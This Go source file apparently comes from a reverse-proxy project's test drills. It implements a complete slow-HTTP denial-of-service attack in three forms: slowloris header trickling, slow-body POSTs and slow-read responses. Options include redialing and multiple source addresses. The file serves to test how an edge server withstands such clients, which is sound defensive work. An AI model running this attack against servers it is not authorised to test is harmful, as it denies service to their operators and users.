package drill

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/leveeproxy/levee/internal/clock"
)

// SlowAttack holds slow client connections open against an edge, as
// slowhttptest does:
//
//   - slowloris: a request header that never ends, one more header line
//     every Interval;
//   - slow-body: a whole header declaring a body (BodySizes), the first
//     BodyHead bytes of a larger one at once, then Chunk bytes every Interval;
//   - slow-read: a GET for a large response (ReadPath), read Chunk bytes
//     every Interval through a receive buffer of ReadBuffer bytes.
//
// It is the slow-clients drill's attack, exported so that a test can put any
// edge under it and measure a victim client itself:
//
//	run, err := drill.SlowAttack{Target: url, Host: "app.test", SlowBody: 1000}.Start(ctx)
//	... send the victim's requests ...
//	st := run.Stop() // st.SlowBody.Cut, st.SlowBody.CutP50, ...
//
// Only Target and a count are needed; the zero value of every other field
// is its default. It speaks plain HTTP/1.1 only.
type SlowAttack struct {
	// Target is the edge: "http://host:port" or "host:port".
	Target string
	// Host is the Host of every request; "" is the target's host:port.
	Host string
	// Path is slowloris' and slow-body's request target; "" is /.
	Path string
	// ReadPath is slow-read's request target. Its response must be larger
	// than the socket buffers between edge and attacker (a few hundred KB),
	// or the edge has written it all before the reading gets slow. "" is Path.
	ReadPath string

	Slowloris, SlowBody, SlowRead int // connections of each kind

	Interval time.Duration // between two trickles on one connection; 0 is 1s
	Chunk    int           // slow-body bytes written, slow-read bytes read per Interval; 0 is 16
	// BodySizes are slow-body's Content-Lengths, one per connection in turn;
	// nil is 4 KiB (slowhttptest's default) and 1 MiB (past a 64 KiB request buffer).
	BodySizes []int64
	// BodyHead is how much of a body larger than it is sent at once with
	// the header: an edge that reads the first bytes of a body before it
	// admits the request (fasthttp reads 8 KiB, an edge may buffer 64 KiB)
	// is then past them, and the rest trickles while the request holds what
	// admitting it took. A body of at most BodyHead bytes trickles from its
	// first byte, as slowhttptest's do. 0 is 128 KiB; negative is none.
	BodyHead int64
	// ReadBuffer is slow-read's receive buffer (SO_RCVBUF, set before the
	// connection is made on Linux); 0 is 4096 bytes.
	ReadBuffer int
	// Redial replaces a connection that ended (cut by the edge, or its
	// request finished) with a new one after Interval, as a determined
	// attacker does; without it the attack only loses connections.
	Redial bool
	// Source is the local address the connections come from ("": any), so
	// that a test can tell the attack's address from its victim's (an edge
	// may bound connections per client address).
	Source string
	// Sources, when set, are the local addresses of each kind in turn
	// (slowloris, slow-body, slow-read; "" is Source): a distributed
	// attack, not one an edge can bound by address alone.
	Sources     []string
	DialTimeout time.Duration // 0 is 5s
	Dialers     int           // dials in progress at once; 0 is 64
	Clock       clock.Clock   // paces the trickles and times the cuts; nil is the real clock
}

// SlowStats is what an attack saw, per kind of connection.
type SlowStats struct {
	Slowloris, SlowBody, SlowRead SlowKindStats
}

// Kinds is the three kinds' stats, in the order slowloris, slow-body, slow-read.
func (s SlowStats) Kinds() []SlowKindStats {
	return []SlowKindStats{s.Slowloris, s.SlowBody, s.SlowRead}
}

// SlowKindStats counts one kind's connections.
type SlowKindStats struct {
	Kind  string // "slowloris", "slow-body" or "slow-read"
	Conns int    // connections asked for
	// Opened: connections established (redials included); Refused: dials
	// that failed (refused, reset, timed out).
	Opened, Refused int64
	// Cut: connections the edge ended while the attack ran: closed, reset,
	// or answered before the request was whole. A slow reader sees a close
	// only once the bytes the edge had queued before it have been read (or
	// at once, if the edge resets), so for slow-read Cut is a lower bound.
	Cut int64
	// Completed: requests that ran to their end: slow-body's last byte sent
	// and answered, slow-read's whole response read.
	Completed int64
	// Open: connections open at the snapshot; after Stop, those that were
	// still open when the attack ended (held to the end).
	Open int64
	// CutMin, CutP50, CutMax: how long cut connections had been open (within 1.6%).
	CutMin, CutP50, CutMax time.Duration
	// Statuses are the responses the edge sent on these connections.
	Statuses  map[int]int64
	BytesSent int64
	BytesRead int64
}

// SlowRun is a running attack. Its methods are safe for concurrent use.
type SlowRun struct {
	a        SlowAttack
	addr     string // dial address
	host     string
	cancel   context.CancelFunc
	wg       sync.WaitGroup
	dials    chan struct{}
	kinds    [3]*slowKind
	stopOnce sync.Once
	final    SlowStats
}

type slowKind struct {
	name                                        string
	conns                                       int
	opened, refused, cut, completed, open, sent atomic.Int64
	read                                        atomic.Int64
	cutAfter                                    Histogram
	mu                                          sync.Mutex
	statuses                                    map[int]int64
}

func (k *slowKind) status(code int) {
	k.mu.Lock()
	k.statuses[code]++
	k.mu.Unlock()
}

func (k *slowKind) stats() SlowKindStats {
	k.mu.Lock()
	st := make(map[int]int64, len(k.statuses))
	for c, n := range k.statuses {
		st[c] = n
	}
	k.mu.Unlock()
	return SlowKindStats{
		Kind: k.name, Conns: k.conns, Opened: k.opened.Load(), Refused: k.refused.Load(), Cut: k.cut.Load(),
		Completed: k.completed.Load(), Open: k.open.Load(), Statuses: st, BytesSent: k.sent.Load(), BytesRead: k.read.Load(),
		CutMin: k.cutAfter.Quantile(0), CutP50: k.cutAfter.Quantile(0.5), CutMax: k.cutAfter.Max(),
	}
}

// Defaults of SlowAttack.
const (
	slowInterval    = time.Second
	slowChunk       = 16
	slowReadBuffer  = 4096
	slowBodyHead    = 128 << 10
	slowDialTimeout = 5 * time.Second
	slowDialers     = 64
	// slowFileMargin is the open files kept for everything but the attack.
	slowFileMargin = 64
)

// slowBodySizes is slow-body's default: slowhttptest's 4 KiB, and 1 MiB.
func slowBodySizes() []int64 { return []int64{4 << 10, 1 << 20} }

func (a SlowAttack) withDefaults() SlowAttack {
	if a.Path == "" {
		a.Path = "/"
	}
	if a.ReadPath == "" {
		a.ReadPath = a.Path
	}
	if a.Interval <= 0 {
		a.Interval = slowInterval
	}
	if a.Chunk <= 0 {
		a.Chunk = slowChunk
	}
	if len(a.BodySizes) == 0 {
		a.BodySizes = slowBodySizes()
	}
	if a.BodyHead == 0 {
		a.BodyHead = slowBodyHead
	}
	if a.ReadBuffer <= 0 {
		a.ReadBuffer = slowReadBuffer
	}
	if a.DialTimeout <= 0 {
		a.DialTimeout = slowDialTimeout
	}
	if a.Dialers <= 0 {
		a.Dialers = slowDialers
	}
	if a.Clock == nil {
		a.Clock = clock.Real{}
	}
	return a
}

// Files is how many open files the attack needs: one per connection and a margin.
func (a SlowAttack) Files() int { return a.Slowloris + a.SlowBody + a.SlowRead + slowFileMargin }

// Start opens every connection, sends each its request's start, and returns:
// by then every connection is open or was refused (each dial is bounded by
// DialTimeout). The connections trickle on in goroutines of the run until
// Stop, or until ctx ends (then call Stop to join them). It raises the
// process's open-files limit (RLIMIT_NOFILE) to Files if the hard limit
// allows, and fails, opening nothing, if it does not.
func (a SlowAttack) Start(ctx context.Context) (*SlowRun, error) {
	a = a.withDefaults()
	if a.Slowloris < 0 || a.SlowBody < 0 || a.SlowRead < 0 || a.Slowloris+a.SlowBody+a.SlowRead == 0 {
		return nil, fmt.Errorf("drill: a slow attack needs connections (got slowloris %d, slow-body %d, slow-read %d)",
			a.Slowloris, a.SlowBody, a.SlowRead)
	}
	for _, n := range a.BodySizes {
		if n < 1 {
			return nil, fmt.Errorf("drill: slow-body sizes must be at least 1 byte (got %d)", n)
		}
	}
	for _, src := range append([]string{a.Source}, a.Sources...) {
		if src != "" && net.ParseIP(src) == nil {
			return nil, fmt.Errorf("drill: a slow attack's source must be an IP address (got %q)", src)
		}
	}
	addr, err := dialAddr(a.Target)
	if err != nil {
		return nil, err
	}
	if err := EnsureFiles(a.Files()); err != nil {
		return nil, err
	}
	host := a.Host
	if host == "" {
		host = addr
	}
	ctx, cancel := context.WithCancel(ctx)
	r := &SlowRun{a: a, addr: addr, host: host, cancel: cancel, dials: make(chan struct{}, a.Dialers)}
	for i, k := range []struct {
		name string
		n    int
	}{{"slowloris", a.Slowloris}, {"slow-body", a.SlowBody}, {"slow-read", a.SlowRead}} {
		r.kinds[i] = &slowKind{name: k.name, conns: k.n, statuses: map[int]int64{}}
	}
	var started sync.WaitGroup
	for ki, k := range r.kinds {
		for i := range k.conns {
			started.Add(1)
			r.wg.Go(func() { r.hold(ctx, ki, i, sync.OnceFunc(started.Done)) })
		}
	}
	started.Wait()
	return r, nil
}

// Run starts the attack, holds it until ctx ends, and stops it.
func (a SlowAttack) Run(ctx context.Context) (SlowStats, error) {
	r, err := a.Start(ctx)
	if err != nil {
		return SlowStats{}, err
	}
	<-ctx.Done()
	return r.Stop(), nil
}

// Stats is a snapshot of the running attack.
func (r *SlowRun) Stats() SlowStats {
	return SlowStats{Slowloris: r.kinds[0].stats(), SlowBody: r.kinds[1].stats(), SlowRead: r.kinds[2].stats()}
}

// Stop ends the attack: it closes every connection, waits for the run's
// goroutines, and returns the final stats, whose Open counts the
// connections that were still held when it was called. Later calls return
// the same stats.
func (r *SlowRun) Stop() SlowStats {
	r.stopOnce.Do(func() {
		open := [3]int64{}
		for i, k := range r.kinds {
			open[i] = k.open.Load()
		}
		r.cancel()
		r.wg.Wait()
		r.final = r.Stats()
		r.final.Slowloris.Open, r.final.SlowBody.Open, r.final.SlowRead.Open = open[0], open[1], open[2]
	})
	return r.final
}

// dialAddr is the host:port of target ("http://h:p", "h:p").
func dialAddr(target string) (string, error) {
	if strings.Contains(target, "://") {
		u, err := url.Parse(target)
		if err != nil || u.Scheme != "http" || u.Host == "" {
			return "", fmt.Errorf("drill: slow attack target %q: want http://host:port or host:port", target)
		}
		target = u.Host
	}
	if _, port, err := net.SplitHostPort(target); err != nil || port == "" {
		return "", fmt.Errorf("drill: slow attack target %q: want http://host:port or host:port", target)
	}
	return target, nil
}

// end is how one connection's attack ended.
type end int

const (
	endStopped end = iota // the attack was stopped
	endCut                // the edge ended it
	endDone               // its request finished (Completed is counted where it finishes)
)

// hold keeps connection i of kind ki open until the attack stops: dial,
// send the request's start, trickle; with Redial, again after each end.
// started is called once the first dial and start are done.
func (r *SlowRun) hold(ctx context.Context, ki, i int, started func()) {
	defer started()
	k := r.kinds[ki]
	for {
		c, err := r.dial(ctx, ki)
		if err != nil {
			if ctx.Err() != nil {
				return
			}
			k.refused.Add(1) // before started: Start's caller sees it
			started()
		} else {
			k.opened.Add(1)
			k.open.Add(1)
			at := r.a.Clock.Now()
			e := r.attack(ctx, c, ki, i, started)
			_ = c.Close()
			k.open.Add(-1)
			if ctx.Err() != nil {
				return
			}
			if e == endCut {
				k.cut.Add(1)
				k.cutAfter.Record(r.a.Clock.Now().Sub(at))
			}
		}
		if !r.a.Redial || !r.sleep(ctx) {
			return
		}
	}
}

// dial opens one connection, at most Dialers at once.
func (r *SlowRun) dial(ctx context.Context, ki int) (net.Conn, error) {
	select {
	case r.dials <- struct{}{}:
	case <-ctx.Done():
		return nil, ctx.Err()
	}
	defer func() { <-r.dials }()
	d := net.Dialer{Timeout: r.a.DialTimeout}
	src := r.a.Source
	if ki < len(r.a.Sources) && r.a.Sources[ki] != "" {
		src = r.a.Sources[ki]
	}
	if src != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(src)}
	}
	if ki == 2 {
		d.Control = rcvbufControl(r.a.ReadBuffer)
	}
	c, err := d.DialContext(ctx, "tcp", r.addr)
	if err != nil {
		return nil, err
	}
	if tc, ok := c.(*net.TCPConn); ok && ki == 2 {
		_ = tc.SetReadBuffer(r.a.ReadBuffer) // where rcvbufControl could not
	}
	return c, nil
}

// sleep waits one Interval; false if the attack stopped first.
func (r *SlowRun) sleep(ctx context.Context) bool {
	t := r.a.Clock.NewTimer(r.a.Interval)
	select {
	case <-t.C():
		return true
	case <-ctx.Done():
		t.Stop()
		return false
	}
}

// attack runs one connection of kind ki to its end. Stopping the attack
// closes the connection, which ends every read and write on it.
func (r *SlowRun) attack(ctx context.Context, c net.Conn, ki, i int, started func()) end {
	defer context.AfterFunc(ctx, func() { _ = c.Close() })()
	k := r.kinds[ki]
	switch ki {
	case 0:
		return r.slowloris(ctx, c, k, started)
	case 1:
		return r.slowBody(ctx, c, k, r.a.BodySizes[i%len(r.a.BodySizes)], started)
	default:
		return r.slowRead(ctx, c, k, started)
	}
}

// ended is how a failed read or write ended the connection.
func ended(ctx context.Context) end {
	if ctx.Err() != nil {
		return endStopped
	}
	return endCut
}

func (r *SlowRun) write(c net.Conn, k *slowKind, s string) error {
	n, err := io.WriteString(c, s)
	k.sent.Add(int64(n))
	return err
}

func (r *SlowRun) slowloris(ctx context.Context, c net.Conn, k *slowKind, started func()) end {
	err := r.write(c, k, fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: levee-drill slowloris\r\n", r.a.Path, r.host))
	started()
	if err != nil {
		return ended(ctx)
	}
	p := watch(c, k)
	defer p.join(c)
	for n := 0; ; n++ {
		if e, ok := r.tick(ctx, p); !ok {
			return e
		}
		if r.write(c, k, "X-Slow-"+strconv.Itoa(n)+": 1\r\n") != nil {
			return ended(ctx)
		}
	}
}

func (r *SlowRun) slowBody(ctx context.Context, c net.Conn, k *slowKind, size int64, started func()) end {
	err := r.write(c, k, fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: levee-drill slow-body\r\n"+
		"Content-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n", r.a.Path, r.host, size))
	started()
	if err != nil {
		return ended(ctx)
	}
	p := watch(c, k)
	defer p.join(c)
	left := size
	if head := r.a.BodyHead; head > 0 && size > head {
		if r.write(c, k, strings.Repeat("x", int(head))) != nil {
			return ended(ctx)
		}
		left -= head
	}
	chunk := strings.Repeat("x", r.a.Chunk)
	for left > 0 {
		if e, ok := r.tick(ctx, p); !ok {
			return e
		}
		n := min(left, int64(len(chunk)))
		if r.write(c, k, chunk[:n]) != nil {
			return ended(ctx)
		}
		left -= n
	}
	select {
	case <-p.answered:
		k.completed.Add(1)
		return endDone
	case <-p.done:
		return ended(ctx)
	case <-ctx.Done():
		return endStopped
	}
}

// tick waits one Interval while watching p. It reports false, with how the
// connection ended, if the edge answered (before the request was whole: a
// refusal such as 408, 413 or 431) or closed it, or the attack stopped.
func (r *SlowRun) tick(ctx context.Context, p *peer) (end, bool) {
	t := r.a.Clock.NewTimer(r.a.Interval)
	defer t.Stop()
	select {
	case <-t.C():
		return endStopped, true
	case <-p.answered:
		return endCut, false
	case <-p.done:
		return ended(ctx), false
	case <-ctx.Done():
		return endStopped, false
	}
}

func (r *SlowRun) slowRead(ctx context.Context, c net.Conn, k *slowKind, started func()) end {
	req := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: levee-drill slow-read\r\n\r\n", r.a.ReadPath, r.host)
	err := r.write(c, k, req)
	started()
	if err != nil {
		return ended(ctx)
	}
	br := bufio.NewReaderSize(&trickle{r: r, ctx: ctx, c: c, k: k}, 16)
	for {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			return ended(ctx)
		}
		k.status(resp.StatusCode)
		_, err = io.Copy(io.Discard, resp.Body)
		if err != nil {
			return ended(ctx)
		}
		k.completed.Add(1)
		if resp.Close {
			return endDone
		}
		if r.write(c, k, req) != nil { // the next one on the same connection
			return ended(ctx)
		}
	}
}

// errPeerClosed: the edge closed or reset a slow reader's connection.
var errPeerClosed = errors.New("drill: the edge closed the connection")

// trickle reads at most Chunk bytes of c per Interval.
type trickle struct {
	r   *SlowRun
	ctx context.Context
	c   net.Conn
	k   *slowKind
}

func (t *trickle) Read(p []byte) (int, error) {
	for {
		if !t.r.sleep(t.ctx) {
			return 0, t.ctx.Err()
		}
		if peerClosed(t.c) {
			return 0, errPeerClosed
		}
		// a read that gets nothing for an Interval goes back to pacing
		_ = t.c.SetReadDeadline(time.Now().Add(t.r.a.Interval))
		n, err := t.c.Read(p[:min(len(p), t.r.a.Chunk)])
		t.k.read.Add(int64(n))
		if n > 0 {
			return n, nil
		}
		if isTimeout(err) && t.ctx.Err() == nil {
			continue
		}
		if err == nil {
			err = io.ErrNoProgress
		}
		return 0, err
	}
}

// peer watches the edge's side of a slowloris or slow-body connection: the
// status line of its answer, if any, and its close.
type peer struct {
	answered chan struct{} // closed once a status line has arrived
	done     chan struct{} // closed once the connection is closed or reset
}

// watch starts the reader of c's responses; join ends it.
func watch(c net.Conn, k *slowKind) *peer {
	p := &peer{answered: make(chan struct{}), done: make(chan struct{})}
	go func() {
		defer close(p.done)
		br := bufio.NewReaderSize(c, 512)
		line, err := br.ReadSlice('\n')
		if err != nil && len(line) == 0 {
			return
		}
		k.status(statusOf(line))
		close(p.answered)
		n, _ := io.Copy(io.Discard, br)
		k.read.Add(int64(len(line)) + n)
	}()
	return p
}

// join closes c, which ends the reader, and waits for it.
func (p *peer) join(c net.Conn) {
	_ = c.Close()
	<-p.done
}

// statusOf is the code of a status line ("HTTP/1.1 408 Request Timeout"); 0 if it is none.
func statusOf(line []byte) int {
	f := strings.Fields(string(line))
	if len(f) < 2 || !strings.HasPrefix(f[0], "HTTP/") {
		return 0
	}
	code, err := strconv.Atoi(f[1])
	if err != nil {
		return 0
	}
	return code
}
